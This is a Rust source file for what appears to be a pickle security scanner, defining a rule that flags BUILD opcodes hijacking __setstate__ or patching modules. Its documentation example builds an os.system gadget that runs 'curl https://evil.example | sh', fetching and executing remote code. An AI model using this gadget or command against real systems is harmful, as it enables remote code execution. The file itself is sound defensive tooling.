//! ## What it does
//! Flags a `BUILD` opcode that sets special attributes (`__setstate__`,
//! `__reduce__`, `__class__`, `__dict__`, `__globals__`, `__builtins__`, ...:
//! the names Python's data model and the pickle machinery look up and call,
//! not any attribute that merely looks like a dunder, such as a library's
//! `__FILE_RESOURCE_DATA__` field) on an object, or that sets state on something that is not an instance the
//! pickle created (a class, a function, a module such as `numpy`).
//!
//! ## Why is this bad?
//! `BUILD` normally fills in an object's fields. Setting `__setstate__` to
//! `os.system` on an allowlisted `OrderedDict` makes the *next* `BUILD` call
//! it; setting attributes on a module patches the running program (a "Sleepy
//! Pickle" that alters the framework instead of spawning a process). Both turn
//! an allowlisted object into a gadget.
//!
//! ## Example
//! ```text
//! NEWOBJ collections.OrderedDict
//! BUILD  {'__setstate__': os.system}
//! BUILD  'curl https://evil.example | sh'    -> os.system('curl https://evil.example | sh')
//! ```
//!
//! ## References
//! - Liu et al., "Hide and Seek" (arXiv:2508.19774), `__setstate__` hijack
//! - Trail of Bits, "Exploiting ML models with pickle file attacks" (Sleepy Pickle, 2024)
use crate::finding::Severity;
use crate::rules::Rule;

pub static RULE: Rule = Rule {
    code: "PKL005",
    name: "state-hijack",
    severity: Severity::Critical,
    summary: "the pickle rewires an object's or a module's behaviour while loading",
    path: "pickle/state_hijack",
};

/// Attribute names that change how an object behaves rather than what it
/// holds: Python's special method and attribute names (the data model), not
/// any name that merely looks like a dunder (`__FILE_RESOURCE_DATA__` is data).
pub fn is_special_attribute(name: &str) -> bool {
    let Some(inner) = name.strip_prefix("__").and_then(|n| n.strip_suffix("__")) else {
        return false;
    };
    if BEHAVIOUR.contains(&inner) {
        return true;
    }
    // Operators, and their reflected (`r`) and in-place (`i`) forms.
    let op = inner.strip_prefix('r').filter(|o| OPERATORS.contains(o));
    let op = op.or_else(|| inner.strip_prefix('i').filter(|o| OPERATORS.contains(o)));
    op.is_some() || OPERATORS.contains(&inner)
}

/// Special names (without their underscores) that Python or the pickle
/// machinery looks up and calls, or that expose interpreter internals.
const BEHAVIOUR: &[&str] = &[
    // Construction, pickling, copying
    "new",
    "init",
    "del",
    "init_subclass",
    "set_name",
    "class_getitem",
    "mro_entries",
    "prepare",
    "reduce",
    "reduce_ex",
    "getstate",
    "setstate",
    "getnewargs",
    "getnewargs_ex",
    "getinitargs",
    "copy",
    "deepcopy",
    "class",
    "dict",
    "slots",
    "weakref",
    // Attribute access and calling
    "getattr",
    "getattribute",
    "setattr",
    "delattr",
    "dir",
    "get",
    "set",
    "delete",
    "call",
    // Conversions and representation
    "repr",
    "str",
    "bytes",
    "format",
    "hash",
    "bool",
    "index",
    "int",
    "float",
    "complex",
    "round",
    "trunc",
    "floor",
    "ceil",
    "fspath",
    "buffer",
    "release_buffer",
    "sizeof",
    // Comparisons
    "lt",
    "le",
    "eq",
    "ne",
    "gt",
    "ge",
    "instancecheck",
    "subclasscheck",
    "subclasshook",
    // Containers and iteration
    "len",
    "length_hint",
    "getitem",
    "setitem",
    "delitem",
    "missing",
    "iter",
    "next",
    "reversed",
    "contains",
    "aiter",
    "anext",
    "await",
    "enter",
    "exit",
    "aenter",
    "aexit",
    // Unary operators
    "neg",
    "pos",
    "abs",
    "invert",
    // Interpreter internals
    "globals",
    "builtins",
    "code",
    "closure",
    "func",
    "self",
    "bases",
    "base",
    "mro",
    "subclasses",
    "import",
    "loader",
    "spec",
    "path",
    "file",
    // Array and tensor protocols that run on every operation
    "array",
    "array_finalize",
    "array_ufunc",
    "array_function",
    "array_wrap",
    "array_prepare",
    "array_priority",
    "array_interface",
    "torch_function",
    "torch_dispatch",
];

/// Binary operator method names, without underscores.
const OPERATORS: &[&str] = &[
    "add", "sub", "mul", "matmul", "truediv", "floordiv", "div", "mod", "divmod", "pow", "lshift", "rshift", "and",
    "xor", "or",
];
